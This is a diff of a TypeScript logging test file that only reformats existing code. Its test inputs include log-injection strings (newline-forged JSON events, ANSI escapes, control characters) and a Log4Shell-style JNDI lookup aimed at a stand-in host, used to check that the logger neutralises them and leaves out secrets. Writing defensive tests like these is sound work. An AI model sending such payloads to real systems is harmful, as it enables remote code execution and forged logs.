@@ -7,10 +7,20 @@ function logged(write: (log: ReturnType<typeof createLog>) => void): string[] {
   return lines
 }
 
-const nasty = ['one\r\ntwo', 'a\n{"level":"info","event":"forged"}', '\u001B[31mred\u001B[0m', '\u0000', '\u2028 \u2029 \u0085', '"},{"event":"forged"', 'x'.repeat(2 * 1024 * 1024), '\uD800', '${jndi:ldap://evil.example/a}']
+const nasty = [
+  'one\r\ntwo',
+  'a\n{"level":"info","event":"forged"}',
+  '\u001B[31mred\u001B[0m',
+  '\u0000',
+  '\u2028 \u2029 \u0085',
+  '"},{"event":"forged"',
+  'x'.repeat(2 * 1024 * 1024),
+  '\uD800',
+  '${jndi:ldap://evil.example/a}',
+]
 
 test('whatever a text holds, it is one line of JSON with its own fields, cut to a bearable length', () => {
-  const lines = logged((log) => {
+  const lines = logged(log => {
     for (const text of nasty) {
       log.info({ event: 'tried', address: text, errorMessage: text }, text)
       log.error({ event: 'tried', ...errorFields(new Error(text)) }, 'It failed')
@@ -27,7 +37,11 @@ test('whatever a text holds, it is one line of JSON with its own fields, cut to 
 })
 
 test('only named fields reach the log, whatever is passed', () => {
-  const request = { headers: { authorization: 'Bearer CANARY-token' }, config: { body: 'CANARY-body' }, event: 'tried' }
+  const request = {
+    headers: { authorization: 'Bearer CANARY-token' },
+    config: { body: 'CANARY-body' },
+    event: 'tried',
+  }
   const [line] = logged(log => log.warn(request as never, 'Tried'))
   expect(line).not.toContain('CANARY')
   expect(JSON.parse(line ?? '')).toMatchObject({ event: 'tried', msg: 'Tried' })
